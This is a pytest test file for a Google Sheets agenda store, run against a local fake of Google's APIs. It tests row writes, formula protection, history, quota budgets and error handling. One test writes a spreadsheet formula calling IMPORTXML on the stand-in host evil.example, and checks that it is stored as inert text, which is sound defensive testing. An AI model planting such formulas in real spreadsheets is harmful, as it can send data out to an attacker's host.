"""The Google Sheets agenda store against the loopback stand-in of Google (tests/fakes/google/),
driven through the real gspread / google-auth stack, as in production but for
AGENDA_GOOGLE_API_BASE."""

from __future__ import annotations

import json
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from automation.agenda.cells import column_letter
from automation.agenda.google_store import GoogleSheetAgenda
from automation.core import schema as S
from automation.google_api import GoogleUnavailable, RetryPolicy, load_credentials
from automation.ports import AdapterError, Event, RowWrite
from tests.fakes.google import SERVICE_ACCOUNT, FakeGoogle

SHEET = "Buku Agenda"
HEADERS = [c.header for c in S.COLUMNS]
COL = {h: column_letter(i) for i, h in enumerate(HEADERS)}
TZ = ZoneInfo("Asia/Makassar")


def serial(moment: datetime) -> float:
    """The serial the sheet holds for an aware time: its wall-clock time in the office's zone."""
    return (moment.astimezone(TZ).replace(tzinfo=None) - datetime(1899, 12, 30)).total_seconds() / 86400


class FakeSleep:
    def __init__(self) -> None:
        self.calls: list[float] = []

    def __call__(self, seconds: float) -> None:
        self.calls.append(seconds)


def row(entry_id: str, title: str, **cells: object) -> list[object]:
    values: dict[str, object] = {S.TITLE: title, S.NEWS_TYPE: "Siaran Pers", S.SOURCE: "Biro Umum",
                                 S.TEXT: "Isi", S.MEDIA: "a.jpg", S.RECEIVER: "Rina",
                                 S.ENTRY_ID: entry_id, **cells}
    return [values.get(h, "") for h in HEADERS]


@pytest.fixture
def agenda(fake: FakeGoogle) -> str:
    sid = fake.add_spreadsheet("Buku Agenda Humas", [SHEET, S.HISTORY_SHEET], cols=len(HEADERS),
                              time_zone="Asia/Makassar")
    sheet_ids = {n: fake.sheet_properties(sid, n)["sheetId"] for n in (SHEET, S.HISTORY_SHEET)}
    fake.edit(sid, f"'{SHEET}'!A1", [HEADERS,
                                     row("id-c", "Charlie"),
                                     row("id-a", "Alpha", **{S.PARAF_KADIS: True}),
                                     row("id-b", "Bravo", **{S.RECEIVED: "27/11/2026 14:05"})],
              input="USER_ENTERED")
    fake.edit(sid, f"'{S.HISTORY_SHEET}'!A1", [list(S.HISTORY_HEADERS)])
    # what `init` does: the date columns show dates (d mmmm yyyy, hh:mm)
    date_format = {"numberFormat": {"type": "DATE_TIME", "pattern": S.DATETIME_FORMAT}}
    requests = [{"repeatCell": {"range": {"sheetId": sheet_ids[SHEET], "startRowIndex": 1, "startColumnIndex": i,
                                          "endColumnIndex": i + 1},
                                "cell": {"userEnteredFormat": date_format},
                                "fields": "userEnteredFormat.numberFormat"}}
                for i, h in enumerate(HEADERS) if h in S.DATE_HEADERS]
    requests.append({"repeatCell": {"range": {"sheetId": sheet_ids[S.HISTORY_SHEET], "startRowIndex": 1,
                                              "startColumnIndex": 0, "endColumnIndex": 1},
                                    "cell": {"userEnteredFormat": date_format},
                                    "fields": "userEnteredFormat.numberFormat"}})
    fake.apply(sid, requests)
    fake.clear_log()
    return sid


@pytest.fixture
def sleep() -> FakeSleep:
    return FakeSleep()


@pytest.fixture
def store(agenda: str, credentials: Path, sleep: FakeSleep) -> GoogleSheetAgenda:
    return GoogleSheetAgenda(agenda, SHEET, credentials, TZ, sleep=sleep)


def cell(fake: FakeGoogle, sid: str, header: str, n: int, sheet: str = SHEET):
    return fake.cell(sid, f"'{sheet}'!{COL.get(header, header)}{n}")


def where(fake: FakeGoogle, sid: str, entry_id: str) -> int:
    ids = fake.values(sid, f"'{SHEET}'!{COL[S.ENTRY_ID]}:{COL[S.ENTRY_ID]}")
    return next(n for n, r in enumerate(ids, start=1) if r and r[0] == entry_id)


def sort_by_title(fake: FakeGoogle, sid: str) -> None:
    fake.apply(sid, [{"sortRange": {"range": {"sheetId": 0, "startRowIndex": 1},
                                    "sortSpecs": [{"dimensionIndex": HEADERS.index(S.TITLE)}]}}])


# ----------------------------------------------------------------------------- reading

def test_read_gives_booleans_and_datetimes_in_one_request(fake: FakeGoogle, agenda: str,
                                                           store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    assert sheet.header == HEADERS
    alpha = sheet.rows[1]
    assert alpha[HEADERS.index(S.PARAF_KADIS)] is True
    assert alpha[HEADERS.index(S.TITLE)] == "Alpha"
    assert alpha[HEADERS.index(S.AGENDA_NUMBER)] is None          # empty cells are None
    # a time comes out aware, in the office's zone
    assert sheet.rows[2][HEADERS.index(S.RECEIVED)] == datetime(2026, 11, 27, 14, 5, tzinfo=TZ)
    assert sheet.rows[2][HEADERS.index(S.RECEIVED)].tzinfo is TZ
    assert sheet.version == store.version()
    # budget: one Sheets read and one Drive probe (the second probe is the assert's)
    assert (fake.sheets_reads, fake.sheets_writes, fake.drive_requests) == (1, 0, 2)
    # one spreadsheets.get of the worksheet: the values as effectiveValue (booleans, serials)
    # and the formulas (SPEC rule 4), which values.get cannot tell apart from values
    (read,) = [r for r in fake.requests_log if r.api == "sheets"]
    assert read.path == f"/v4/spreadsheets/{agenda}" and read.query["ranges"] == f"'{SHEET}'"
    assert "effectiveValue" in read.query["fields"]
    assert "userEnteredValue.formulaValue" in read.query["fields"]
    assert sheet.formulas == frozenset()


def test_version_is_one_drive_request_and_grows_with_writes(fake: FakeGoogle, agenda: str,
                                                            store: GoogleSheetAgenda) -> None:
    first = store.version()
    assert (fake.drive_requests, fake.sheets_reads + fake.sheets_writes) == (1, 0)
    assert fake.requests_log[-1].query["fields"] == "version"
    fake.edit(agenda, f"'{SHEET}'!A5", [["x"]])
    assert int(store.version()) > int(first)


# ----------------------------------------------------------------------------- writing by ID

def test_write_lands_by_id_after_a_person_sorted_between_read_and_write(
        fake: FakeGoogle, agenda: str, store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    rows = {r[HEADERS.index(S.ENTRY_ID)]: n for n, r in enumerate(sheet.rows, start=2)}
    assert rows == {"id-c": 2, "id-a": 3, "id-b": 4}
    # the person sorts right before the program's first request of the write
    fake.before_request(lambda request: sort_by_title(fake, agenda), "sheets")
    writes = [RowWrite(eid, rows[eid], {S.STATUS: f"status {eid}", S.AGENDA_NUMBER: f"000{i}/2026"})
              for i, eid in enumerate(["id-a", "id-b", "id-c"], start=1)]
    report = store.write(writes, [], sheet)
    assert sorted(report.written) == ["id-a", "id-b", "id-c"] and report.missed == ()
    assert fake.values(agenda, f"'{SHEET}'!{COL[S.TITLE]}2:{COL[S.TITLE]}4") == [["Alpha"], ["Bravo"], ["Charlie"]]
    for eid in ("id-a", "id-b", "id-c"):
        n = where(fake, agenda, eid)
        assert cell(fake, agenda, S.STATUS, n).value == f"status {eid}"
    assert cell(fake, agenda, S.AGENDA_NUMBER, where(fake, agenda, "id-a")).value == "0001/2026"
    assert report.version == store.version()


def test_rows_without_id_are_found_by_match(fake: FakeGoogle, agenda: str,
                                            store: GoogleSheetAgenda) -> None:
    fake.edit(agenda, f"'{SHEET}'!A5", [row("", "Delta")])
    sheet = store.read()
    new = sheet.rows[3] + [None] * len(HEADERS)       # Google leaves trailing empty cells out
    match = {h: str(new[HEADERS.index(h)] or "") for h in (S.ENTRY_ID, S.TITLE, S.SOURCE, S.RECEIVER)}
    # a row is inserted above it before the write
    fake.before_request(lambda r: fake.apply(agenda, [{"insertDimension": {"range": {
        "sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}}}]), "sheets")
    report = store.write([RowWrite("id-d", 5, {S.ENTRY_ID: "id-d", S.STATUS: "Belum Lengkap"}, match)], [],
                         sheet)
    assert report.written == ("id-d",)
    assert fake.values(agenda, f"'{SHEET}'!{COL[S.TITLE]}6:{COL[S.ENTRY_ID]}6")[0][0] == "Delta"
    assert cell(fake, agenda, S.ENTRY_ID, 6).value == "id-d"
    assert cell(fake, agenda, S.STATUS, 6).value == "Belum Lengkap"
    assert cell(fake, agenda, S.ENTRY_ID, 5).value == "id-b"          # where Delta was: untouched
    assert cell(fake, agenda, S.STATUS, 5).value is None


def test_copied_row_gets_its_new_id_by_match_and_where_it_was(fake: FakeGoogle, agenda: str,
                                                              store: GoogleSheetAgenda) -> None:
    fake.edit(agenda, f"'{SHEET}'!A5", [row("id-a", "Alpha copy")])
    sheet = store.read()
    match = {S.ENTRY_ID: "id-a", S.TITLE: "Alpha copy", S.SOURCE: "Biro Umum", S.RECEIVER: "Rina"}
    report = store.write([RowWrite("id-e", 5, {S.ENTRY_ID: "id-e"}, match),
                          RowWrite("id-a", 3, {S.STATUS: "Tayang"},
                                   {S.ENTRY_ID: "id-a", S.TITLE: "Alpha", S.SOURCE: "Biro Umum",
                                    S.RECEIVER: "Rina"})], [], sheet)
    assert sorted(report.written) == ["id-a", "id-e"]
    assert cell(fake, agenda, S.ENTRY_ID, 5).value == "id-e"
    assert cell(fake, agenda, S.STATUS, 3).value == "Tayang"
    assert cell(fake, agenda, S.STATUS, 5).value is None


def test_deleted_row_is_missed_and_nothing_is_written_elsewhere(fake: FakeGoogle, agenda: str,
                                                                store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    before = fake.values(agenda, f"'{SHEET}'")
    fake.before_request(lambda r: fake.apply(agenda, [{"deleteDimension": {"range": {
        "sheetId": 0, "dimension": "ROWS", "startIndex": 2, "endIndex": 3}}}]), "sheets")   # Alpha
    report = store.write([RowWrite("id-a", 3, {S.STATUS: "Tayang", S.WEBSITE_URL: "https://x/"})], [],
                         sheet)
    assert report.written == () and report.missed == ("id-a",)
    after = fake.values(agenda, f"'{SHEET}'")
    assert after == [before[0], before[1], before[3]]            # only the person's deletion
    assert fake.sheets_writes == 0


def test_a_column_inserted_between_read_and_write_is_followed(fake: FakeGoogle, agenda: str,
                                                               store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    fake.before_request(lambda r: fake.apply(agenda, [{"insertDimension": {"range": {
        "sheetId": 0, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}}}]), "sheets")
    report = store.write([RowWrite("id-a", 3, {S.STATUS: "Tayang"})], [], sheet)
    assert report.written == ("id-a",)
    status = column_letter(HEADERS.index(S.STATUS) + 1)
    assert fake.cell(agenda, f"'{SHEET}'!{status}3").value == "Tayang"
    assert fake.sheets_reads == 1 + 2              # read(), then the columns read again where they are


# ----------------------------------------------------------------------------- values as written

def test_text_stays_text_ticks_are_booleans_dates_are_serials(fake: FakeGoogle, agenda: str,
                                                              store: GoogleSheetAgenda) -> None:
    fake.edit(agenda, f"'{SHEET}'!{COL[S.ARCHIVE_NUMBER]}3", [["old"]])
    sheet = store.read()
    when = datetime(2026, 11, 27, 14, 5, tzinfo=TZ)
    cells = {
        S.SYSTEM_NOTE: '=IMPORTXML("http://evil.example/","//a")', S.AGENDA_NUMBER: "1/2026",
        S.WEBSITE_URL: "=1+1", S.PARAF_KADIS: False, S.PUBLISHED_AT: when, S.ARCHIVE_NUMBER: None}
    store.write([RowWrite("id-a", 3, cells)], [], sheet)
    for header, text in ((S.SYSTEM_NOTE, cells[S.SYSTEM_NOTE]), (S.AGENDA_NUMBER, "1/2026"),
                         (S.WEBSITE_URL, "=1+1")):
        stored = cell(fake, agenda, header, 3)
        assert stored.formula is None and stored.value == text
    tick = cell(fake, agenda, S.PARAF_KADIS, 3)
    assert tick.value is False and isinstance(tick.value, bool)
    published = cell(fake, agenda, S.PUBLISHED_AT, 3)
    assert published.value == pytest.approx(serial(when))
    shown = fake.values(agenda, f"'{SHEET}'!{COL[S.PUBLISHED_AT]}3", render="FORMATTED_VALUE")
    assert shown == [["27 November 2026, 14:05"]]
    assert cell(fake, agenda, S.ARCHIVE_NUMBER, 3).value is None
    body = next(r.body for r in fake.requests_log if r.path.endswith("values:batchUpdate"))
    assert body["valueInputOption"] == "RAW"
    # read back through the store: the same values
    back = store.read().rows[1]
    assert back[HEADERS.index(S.PUBLISHED_AT)] == when
    assert back[HEADERS.index(S.PARAF_KADIS)] is False
    assert back[HEADERS.index(S.SYSTEM_NOTE)] == cells[S.SYSTEM_NOTE]


def test_aware_datetimes_are_written_in_the_office_time_zone(fake: FakeGoogle, agenda: str,
                                                             store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    utc = datetime(2026, 11, 27, 6, 5, 7, 600_000, tzinfo=ZoneInfo("UTC"))
    store.write([RowWrite("id-a", 3, {S.ARCHIVED_AT: utc})], [Event("id-a", "Diarsipkan", utc)], sheet)
    local = datetime(2026, 11, 27, 14, 5, 7, tzinfo=TZ)           # whole seconds, as sheets keep
    assert cell(fake, agenda, S.ARCHIVED_AT, 3).value == pytest.approx(serial(local), abs=1e-9)
    assert fake.cell(agenda, f"'{S.HISTORY_SHEET}'!A2").value == pytest.approx(serial(local), abs=1e-9)
    assert store.read().rows[1][HEADERS.index(S.ARCHIVED_AT)] == local
    assert store.history()[-1].at == local


def test_a_naive_time_is_refused_and_nothing_is_written(fake: FakeGoogle, agenda: str,
                                                         store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    fake.clear_log()
    with pytest.raises(ValueError, match="naive"):
        store.write([RowWrite("id-a", 3, {S.ARCHIVED_AT: datetime(2026, 11, 27, 14, 5)})], [], sheet)
    with pytest.raises(ValueError, match="naive"):
        store.put_sheet("Status Program", [["Waktu", datetime(2026, 11, 27, 14, 5)]])
    assert fake.sheets_writes == 0


def test_unchanged_cells_are_not_written(fake: FakeGoogle, agenda: str,
                                         store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    report = store.write([RowWrite("id-a", 3, {S.TITLE: "Alpha", S.PARAF_KADIS: True})], [], sheet)
    assert report.written == ("id-a",)
    assert fake.sheets_writes == 0


# ----------------------------------------------------------------------------- formulas (rule 4)

TODAY_IF_EMPTY = '=IF(O3="","",TODAY())'


def office_formulas(fake: FakeGoogle, sid: str) -> None:
    """Alpha (row 3): a `Tanggal Terima` formula showing nothing; Bravo (row 4): `=NA()` in
    `Jenis Berita`, as the office typed them (USER_ENTERED)."""
    fake.define_formula(sid, TODAY_IF_EMPTY, "")
    fake.edit(sid, f"'{SHEET}'!{COL[S.RECEIVED]}3", [[TODAY_IF_EMPTY]])
    fake.edit(sid, f"'{SHEET}'!{COL[S.NEWS_TYPE]}4", [["=NA()"]])


def test_read_reports_formula_cells_also_when_they_show_nothing_or_an_error(
        fake: FakeGoogle, agenda: str, store: GoogleSheetAgenda) -> None:
    office_formulas(fake, agenda)
    fake.clear_log()
    sheet = store.read()
    assert sheet.formulas == {(3, HEADERS.index(S.RECEIVED)), (4, HEADERS.index(S.NEWS_TYPE))}
    assert sheet.rows[1][HEADERS.index(S.RECEIVED)] is None          # shows nothing
    assert sheet.rows[2][HEADERS.index(S.NEWS_TYPE)] == "#N/A"
    assert sheet.rows[2][HEADERS.index(S.RECEIVED)] == datetime(2026, 11, 27, 14, 5, tzinfo=TZ)
    assert (fake.sheets_reads, fake.drive_requests) == (1, 1)       # still one Sheets read


def test_a_write_never_goes_over_a_cell_that_held_a_formula(fake: FakeGoogle, agenda: str,
                                                            store: GoogleSheetAgenda) -> None:
    office_formulas(fake, agenda)
    sheet = store.read()
    sort_by_title(fake, agenda)             # Alpha moves up to row 2, its formula with it
    when = datetime(2026, 11, 27, 9, 0, tzinfo=TZ)
    report = store.write([RowWrite("id-a", 3, {S.RECEIVED: when, S.STATUS: "Belum Lengkap"}),
                          RowWrite("id-b", 4, {S.NEWS_TYPE: "Siaran Pers", S.STATUS: "x"})], [], sheet)
    assert sorted(report.written) == ["id-a", "id-b"]
    alpha, bravo = where(fake, agenda, "id-a"), where(fake, agenda, "id-b")
    assert alpha == 2
    assert cell(fake, agenda, S.RECEIVED, alpha).formula == TODAY_IF_EMPTY
    assert cell(fake, agenda, S.NEWS_TYPE, bravo).formula == "=NA()"
    assert cell(fake, agenda, S.STATUS, alpha).value == "Belum Lengkap"   # the rest is written
    assert cell(fake, agenda, S.STATUS, bravo).value == "x"
    body = next(r.body for r in fake.requests_log if r.path.endswith("values:batchUpdate"))
    assert {d["range"] for d in body["data"]} == {f"'{SHEET}'!{COL[S.STATUS]}2:{COL[S.STATUS]}2",
                                                  f"'{SHEET}'!{COL[S.STATUS]}3:{COL[S.STATUS]}3"}


def test_a_new_rows_formula_is_kept_when_its_id_is_given_and_after(
        fake: FakeGoogle, agenda: str, store: GoogleSheetAgenda) -> None:
    fake.edit(agenda, f"'{SHEET}'!A5", [row("", "Delta")])
    fake.define_formula(agenda, TODAY_IF_EMPTY, "")
    fake.edit(agenda, f"'{SHEET}'!{COL[S.RECEIVED]}5", [[TODAY_IF_EMPTY]])
    sheet = store.read()
    match = {S.ENTRY_ID: "", S.TITLE: "Delta", S.SOURCE: "Biro Umum", S.RECEIVER: "Rina"}
    when = datetime(2026, 11, 27, 9, 0, tzinfo=TZ)
    store.write([RowWrite("id-d", 5, {S.ENTRY_ID: "id-d", S.RECEIVED: when}, match)], [], sheet)
    assert cell(fake, agenda, S.ENTRY_ID, 5).value == "id-d"
    # a second write from the same read (as a cycle makes): the row is found by its new ID
    store.write([RowWrite("id-d", 5, {S.RECEIVED: when, S.STATUS: "Belum Lengkap"})], [], sheet)
    assert cell(fake, agenda, S.RECEIVED, 5).formula == TODAY_IF_EMPTY
    assert cell(fake, agenda, S.STATUS, 5).value == "Belum Lengkap"


# ----------------------------------------------------------------------------- Riwayat

def test_riwayat_never_gets_the_same_row_twice(fake: FakeGoogle, agenda: str,
                                               store: GoogleSheetAgenda) -> None:
    at = datetime(2026, 11, 27, 14, 5, tzinfo=TZ)
    events = [Event("id-a", "Tayang", at, "0001/2026", "https://x/"),
              Event("id-a", "Tayang", at, "0001/2026", "https://x/"),      # repeated in the batch
              Event("id-b", "Diterima", at, "0002/2026", "")]
    store.write([], events)
    store.write([], events, recheck_history=True)                                # an interrupted retry
    store.write([], events[:1] + [Event("id-c", "Ditolak", at, "1/2026", "=1+1")])
    rows = fake.values(agenda, f"'{S.HISTORY_SHEET}'!A2:E")
    assert [r[1:] for r in rows] == [["id-a", "0001/2026", "Tayang", "https://x/"],
                                     ["id-b", "0002/2026", "Diterima"],
                                     ["id-c", "1/2026", "Ditolak", "=1+1"]]
    assert fake.cell(agenda, f"'{S.HISTORY_SHEET}'!E4").formula is None
    # `Waktu` is a date value (the stand-in does not copy the row format into appended rows as
    # Google does, so only the serial is checked here)
    assert fake.cell(agenda, f"'{S.HISTORY_SHEET}'!A2").value == pytest.approx(serial(at))
    history = store.history()
    assert history[0] == Event("id-a", "Tayang", at, "0001/2026", "https://x/")
    assert [h.entry_id for h in history] == ["id-a", "id-b", "id-c"]
    appends = [r for r in fake.requests_log if r.path.endswith(":append")]
    assert len(appends) == 2 and all(r.query["valueInputOption"] == "RAW" and
                                     r.query["insertDataOption"] == "INSERT_ROWS" for r in appends)


def test_without_recheck_riwayat_is_not_read(fake: FakeGoogle, agenda: str,
                                             store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    fake.clear_log()
    store.write([RowWrite("id-a", 3, {S.STATUS: "Tayang"})],
                [Event("id-a", "Tayang", datetime(2026, 11, 27, tzinfo=TZ))], sheet,
                recheck_history=False)
    batch_get = [r for r in fake.requests_log if r.path.endswith("values:batchGet")]
    assert len(batch_get) == 1
    assert not any(S.HISTORY_SHEET in str(rng) for rng in batch_get[0].query["ranges"])


# ----------------------------------------------------------------------------- quota budget

def test_request_budget_of_a_cycle_publishing_five_rows(fake: FakeGoogle, agenda: str,
                                                        store: GoogleSheetAgenda) -> None:
    fake.edit(agenda, f"'{SHEET}'!A5", [row(f"id-{i}", f"Row {i}") for i in range(200)])
    fake.clear_log()
    sheet = store.read()
    assert (fake.sheets_reads, fake.sheets_writes, fake.drive_requests) == (1, 0, 1)
    fake.clear_log()
    ids = [r[HEADERS.index(S.ENTRY_ID)] for r in sheet.rows][3:8]
    at = datetime(2026, 11, 27, 14, 5, tzinfo=TZ)
    writes = [RowWrite(eid, 0, {S.STATUS: "Tayang", S.WEBSITE_URL: f"https://x/{eid}/",
                                S.PUBLISHED_AT: at, S.ARCHIVE_NUMBER: f"400.14.5.6/{i:04d}/DKISP/XI/2026",
                                S.SYSTEM_NOTE: ""})
              for i, eid in enumerate(ids, start=1)]
    events = [Event(eid, "Tayang", at, "", f"https://x/{eid}/") for eid in ids]
    report = store.write(writes, events, sheet, recheck_history=True)
    assert sorted(report.written) == sorted(ids)
    assert fake.sheets_reads <= 1 and fake.sheets_writes <= 2
    assert (fake.sheets_reads, fake.sheets_writes, fake.drive_requests) == (1, 2, 1)
    # the cheap read: the header row, the ID column and Riwayat's key columns, nothing more
    (batch_get,) = [r for r in fake.requests_log if r.path.endswith("values:batchGet")]
    assert batch_get.query["ranges"] == [f"'{SHEET}'!1:1", f"'{SHEET}'!{COL[S.ENTRY_ID]}:{COL[S.ENTRY_ID]}",
                                         f"'{S.HISTORY_SHEET}'!B2:E"]
    for eid in ids:
        assert cell(fake, agenda, S.STATUS, where(fake, agenda, eid)).value == "Tayang"


def test_budget_holds_for_writes_without_a_read_in_between(fake: FakeGoogle, agenda: str,
                                                           store: GoogleSheetAgenda) -> None:
    sheet = store.read()
    store.write([RowWrite("id-a", 3, {S.STATUS: "A"})], [], sheet)     # e.g. saving new IDs first
    fake.clear_log()
    store.write([RowWrite("id-b", 4, {S.STATUS: "B"})], [], sheet)
    assert (fake.sheets_reads, fake.sheets_writes, fake.drive_requests) == (1, 1, 1)


# ----------------------------------------------------------------------------- failures

def test_429_with_retry_after_is_retried_after_that_wait(fake: FakeGoogle, agenda: str,
                                                         store: GoogleSheetAgenda,
                                                         sleep: FakeSleep) -> None:
    fake.rate_limit("sheets.read", retry_after=7)
    sheet = store.read()
    assert sheet.rows
    assert sleep.calls == [7.0]
    assert [r.status for r in fake.requests_log if r.api == "sheets"] == [429, 200]


def test_drive_rate_limit_403_is_retried(fake: FakeGoogle, agenda: str, store: GoogleSheetAgenda,
                                         sleep: FakeSleep) -> None:
    fake.drive_error("userRateLimitExceeded", times=2)
    assert store.version()
    assert len(sleep.calls) == 2 and all(0 < s <= 60 for s in sleep.calls)


def test_repeated_503_gives_up_with_adapter_error_within_bounds(fake: FakeGoogle, agenda: str,
                                                                store: GoogleSheetAgenda,
                                                                sleep: FakeSleep) -> None:
    sheet = store.read()
    fake.clear_log()
    fake.server_error("sheets", status=503, times=100)
    with pytest.raises(AdapterError) as caught:
        store.write([RowWrite("id-a", 3, {S.STATUS: "Tayang"})], [], sheet)
    assert isinstance(caught.value, GoogleUnavailable)
    assert "503" in str(caught.value) and "next cycle" in str(caught.value)
    assert caught.value.note and "siklus berikutnya" in caught.value.note
    assert fake.count("sheets") == 5                           # bounded attempts
    assert len(sleep.calls) == 4 and sum(sleep.calls) <= 60    # bounded waiting
    assert cell(fake, agenda, S.STATUS, 3).value is None


def test_append_is_not_retried_after_a_server_error(fake: FakeGoogle, agenda: str,
                                                    store: GoogleSheetAgenda) -> None:
    """A 5xx may hide a carried-out append: not repeated blindly; the cycle rechecks next time."""
    fake.server_error(lambda r: r.path.endswith(":append"), status=500)
    with pytest.raises(GoogleUnavailable):
        store.write([], [Event("id-a", "Tayang", datetime(2026, 11, 27, tzinfo=TZ))])
    assert len([r for r in fake.requests_log if r.path.endswith(":append")]) == 1


def test_long_retry_after_gives_up_at_once(fake: FakeGoogle, agenda: str, store: GoogleSheetAgenda,
                                           sleep: FakeSleep) -> None:
    fake.rate_limit("sheets", retry_after=300)
    with pytest.raises(GoogleUnavailable):
        store.read()
    assert sleep.calls == []


def test_retry_policy_backoff_is_bounded_and_jittered() -> None:
    waits: list[float] = []
    policy = RetryPolicy(sleep=waits.append, jitter=lambda: 1.0)

    import requests

    calls = []

    def fail() -> None:
        calls.append(1)
        raise requests.ConnectionError("reset")

    with pytest.raises(GoogleUnavailable):
        policy.call(fail, "test")
    assert len(calls) == 5 and waits == [2.0, 4.0, 8.0, 16.0]


def test_not_shared_names_the_service_account(fake: FakeGoogle, credentials: Path) -> None:
    sid = fake.add_spreadsheet("Private", [SHEET, S.HISTORY_SHEET], shared=None)
    store = GoogleSheetAgenda(sid, SHEET, credentials, TZ, sleep=FakeSleep())
    with pytest.raises(AdapterError, match=SERVICE_ACCOUNT):
        store.read()
    problems = store.check()
    assert len(problems) == 1 and SERVICE_ACCOUNT in problems[0] and "Share" in problems[0]


def test_read_only_share_refuses_the_write_naming_the_account(fake: FakeGoogle, credentials: Path) -> None:
    sid = fake.add_spreadsheet("Read only", [SHEET, S.HISTORY_SHEET], shared="reader")
    fake.edit(sid, f"'{SHEET}'!A1", [HEADERS, row("id-a", "Alpha")])
    store = GoogleSheetAgenda(sid, SHEET, credentials, TZ, sleep=FakeSleep())
    sheet = store.read()
    with pytest.raises(AdapterError, match=f"{SERVICE_ACCOUNT} as Editor"):
        store.write([RowWrite("id-a", 2, {S.STATUS: "x"})], [], sheet)


@pytest.mark.parametrize("content, expected", [
    (None, "not found"),
    ("{not json", "not JSON"),
    (json.dumps({"installed": {"client_id": "x"}}), "OAuth client file"),
    ("bad-key", "private key cannot be loaded"),
])
def test_bad_credentials_give_a_clear_error(tmp_path: Path, fake: FakeGoogle, content: str | None,
                                            expected: str) -> None:
    path = tmp_path / "credentials.json"
    if content == "bad-key":
        info = fake.service_account_info()
        info["private_key"] = "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"
        content = json.dumps(info)
    if content is not None:
        path.write_text(content)
    store = GoogleSheetAgenda("sid", SHEET, path, TZ, sleep=FakeSleep())
    with pytest.raises(AdapterError, match=expected) as caught:
        store.read()
    assert "PRIVATE KEY" not in str(caught.value) and "AAAA" not in str(caught.value)
    assert caught.value.note.startswith("Kunci akun layanan")
    assert fake.requests_log == []
    assert any(expected in p for p in store.check())


def test_key_unknown_to_google_is_an_adapter_error(fake: FakeGoogle, agenda: str, tmp_path: Path,
                                                   credentials: Path) -> None:
    path = tmp_path / "other.json"
    path.write_text(json.dumps(fake.service_account_info(valid=False)))
    store = GoogleSheetAgenda(agenda, SHEET, path, TZ, sleep=FakeSleep())
    with pytest.raises(AdapterError, match="refused the service-account key"):
        store.version()
    assert isinstance(load_credentials(credentials).service_account_email, str)


# ----------------------------------------------------------------------------- check

def test_check_reports_missing_worksheets_and_headers(fake: FakeGoogle, credentials: Path) -> None:
    sid = fake.add_spreadsheet("Half done", [SHEET], time_zone="Asia/Jakarta")
    fake.edit(sid, f"'{SHEET}'!A1", [[h for h in HEADERS if h != S.STATUS] + [S.TITLE]])
    problems = GoogleSheetAgenda(sid, SHEET, credentials, TZ, sleep=FakeSleep()).check()
    text = "\n".join(problems)
    assert f"worksheet '{S.HISTORY_SHEET}' is missing" in text
    assert f"header '{S.STATUS}' is missing" in text
    assert f"header '{S.TITLE}' is duplicated" in text
    assert "time zone is Asia/Jakarta" in text


def test_check_passes_on_a_prepared_sheet(fake: FakeGoogle, agenda: str, credentials: Path) -> None:
    assert GoogleSheetAgenda(agenda, SHEET, credentials, TZ, sleep=FakeSleep()).check() == []


# ----------------------------------------------------------------------------- whole cycles

class _GoogleOffice:
    """A workspace whose agenda is a sheet in the stand-in; `cycle` counts the requests."""

    def __init__(self, fake: FakeGoogle, credentials: Path, folder: Path, people: list[dict]):
        from tests.support.workspace import Agenda

        self.fake = fake
        self.local = Agenda(folder, [])
        self.headers = [c.header for c in S.agenda_columns(self.local.cfg.approval.columns)]
        self.sid = fake.add_spreadsheet("Buku Agenda", [SHEET, S.HISTORY_SHEET],
                                        cols=len(self.headers), time_zone="Asia/Makassar")
        fake.edit(self.sid, f"'{SHEET}'!A1",
                  [self.headers] + [[r.get(h, "") for h in self.headers] for r in people])
        fake.edit(self.sid, f"'{S.HISTORY_SHEET}'!A1", [list(S.HISTORY_HEADERS)])

        class Trusting(GoogleSheetAgenda):
            # protections (SPEC rule 7) are covered by their own tests; here: trusted
            def approval_trust(self) -> str:
                return ""

        self.store = Trusting(self.sid, SHEET, credentials, TZ, sleep=FakeSleep())

    def cycle(self, now: datetime) -> tuple[int, int, int]:
        """(Sheets reads, Sheets writes, Drive requests) of one cycle."""
        self.fake.clear_log()
        self.local.cycle(now, store=lambda _: self.store)
        return self.fake.sheets_reads, self.fake.sheets_writes, self.fake.drive_requests

    def column(self, header: str, rows: int) -> list[list]:
        letter = column_letter(self.headers.index(header))
        return self.fake.values(self.sid, f"'{SHEET}'!{letter}2:{letter}{rows + 1}")

    def tick(self, n: int, header: str, value) -> None:
        self.fake.edit(self.sid, f"'{SHEET}'!{column_letter(self.headers.index(header))}{n}",
                       [[value]])


def test_cycles_on_the_google_store_stay_within_the_quota_budget(
        fake: FakeGoogle, credentials: Path, tmp_path: Path) -> None:
    from tests.support.workspace import NOW, approved
    from tests.support.workspace import row as agenda_row

    k = 5
    office = _GoogleOffice(fake, credentials, tmp_path / "ws", [agenda_row(f"Berita {i}") for i in range(k)]
                           + [agenda_row(f"Lain {i}") for i in range(20)])
    first = office.cycle(NOW)              # rows get their number, ID and status
    assert all(r and r[0] for r in office.column(S.ENTRY_ID, k))
    for i in range(k):                     # the officials tick k rows
        tick = approved(f"Berita {i}")
        for h in (S.PARAF_KADIS, S.PARAF_KABID):
            office.tick(i + 2, h, tick[h])
    publish = office.cycle(NOW.replace(minute=5))
    assert office.column(S.STATUS, k) == [["Tayang"]] * k
    assert len(office.local.site_posts()) == k
    idle = office.cycle(NOW.replace(minute=6))
    print(f"\nrequests (sheets reads, sheets writes, drive): first cycle {first}, "
          f"publishing {k} rows {publish}, nothing changed {idle}")
    assert publish[0] <= 2 and publish[1] <= 2
    assert idle == (0, 0, 1)


def test_rows_approved_at_first_sight_keep_the_budget_and_publish_one_cycle_later(
        fake: FakeGoogle, credentials: Path, tmp_path: Path) -> None:
    from tests.support.workspace import NOW, approved

    k = 4
    office = _GoogleOffice(fake, credentials, tmp_path / "ws",
                           [approved(f"Berita {i}") for i in range(k)])
    first = office.cycle(NOW)
    # Their IDs are saved with the one write-back; nothing is on the website yet, and the
    # Status cell is left as staff see it until the post exists.
